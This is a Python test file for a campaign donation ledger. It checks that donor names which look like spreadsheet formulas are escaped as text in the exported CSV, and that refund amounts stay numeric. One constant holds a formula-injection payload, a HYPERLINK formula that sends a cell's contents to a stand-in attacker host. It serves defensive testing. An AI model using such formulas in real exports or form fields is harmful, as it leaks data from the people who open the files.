"""The public ledger CSV: what a donor typed as their name never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from partnership.extensions import db
from partnership.ledger.models import LedgerKind
from partnership.ledger.services import append_entry
from tests.factories import english  # noqa: F401  (autouse: pages in English)
from tests.paid_gifts import gift

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_donor_name_that_is_a_formula_stays_text(client, make_campaign):
    campaign = make_campaign()
    gift(campaign, name=EVIL, amount_satang=30_000)
    gift(campaign, name=" @SUM(1+1)", amount_satang=20_000)
    append_entry(
        campaign_id=campaign.id,
        amount_satang=-5_000,
        kind=LedgerKind.REFUND,
        source="evt_refund_csv",
        public_label="",
    )
    db.session.commit()
    response = client.get(f"/campaigns/{campaign.id}/ledger.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    labels = [row[3] for row in rows[1:]]
    assert labels[:2] == ["'" + EVIL, "' @SUM(1+1)"]
    # Amounts stay numbers: a refund's minus is not escaped into text.
    assert [row[4] for row in rows[1:]] == ["300.00", "200.00", "-50.00"]
    assert Decimal(rows[-1][5]) == Decimal("450.00")
